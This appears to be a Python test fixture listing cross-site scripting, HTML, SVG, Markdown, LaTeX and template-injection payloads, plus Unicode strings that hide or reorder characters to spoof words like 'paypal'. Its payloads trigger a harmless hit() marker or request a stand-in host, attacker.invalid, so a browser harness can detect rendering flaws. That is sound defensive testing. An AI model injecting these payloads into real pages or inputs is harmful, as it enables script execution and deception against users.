"""Texts that would run something, or deceive a reader, wherever they are taken for more than text.

Each that runs calls ``hit()``, which :func:`browser.ran` counts, or asks ``attacker.invalid`` for something,
which it counts too.
"""

_RUN = "hit()"
_DATA = "data:text/html,<script>parent.hit()</script>"
_ASK = "http://attacker.invalid/x"

RUNNING = (
    # scripts
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"<!--<script>{_RUN}</script>-->",
    f'"><script>{_RUN}</script>',
    f"]]><script>{_RUN}</script>",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    # handlers
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}" alt=\'',
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>more</summary></details>",
    f"<div style=animation:a onanimationstart={_RUN}></div><style>@keyframes a{{}}</style>",
    f'" onmouseover={_RUN} x="',
    f"' autofocus onfocus={_RUN} x='",
    # style, links, frames, plug-ins
    f"<style>@import '{_ASK}.css';</style>",
    f"<style>*{{background:url({_ASK})}}</style>",
    f"<base href={_ASK}/>",
    f"<meta http-equiv=refresh content='0;url={_ASK}'>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<object data='{_DATA}'></object>",
    f"<form action='javascript:{_RUN}'><button autofocus>go</button></form>",
    f"<img src={_ASK}.png>",
    # SVG and MathML
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    # addresses, Markdown, LaTeX, templates
    f"[a link](javascript:{_RUN})",
    f'![a picture](x" onerror="{_RUN})',
    f"<a href='javascript:{_RUN}' autofocus>a</a>",
    f"$\\href{{javascript:{_RUN}}}{{x}}$ \\( \\unicode{{<img src=x onerror={_RUN}>}} \\)",
    f"$$\\require{{html}}\\style{{background:url({_ASK})}}{{x}}$$",
    f"{{{{constructor.constructor('{_RUN}')()}}}} ${{{_RUN}}} <%= {_RUN} %>",
)

# Each holds a character that hides or reorders others, and must be shown with its number.
DECEIVING = {
    "right-to-left override": "pay \u202emoney\u202c back",
    "isolate": "pay \u2067money\u2069 back",
    "zero-width space": "pay\u200bpal",
    "soft hyphen": "pay\u00adpal",
    "joiner in a Latin word": "pay\u200dpal",
    "tag characters": "pay\U000e0041\U000e0042pal",
}
ALL = (*RUNNING, *DECEIVING.values())
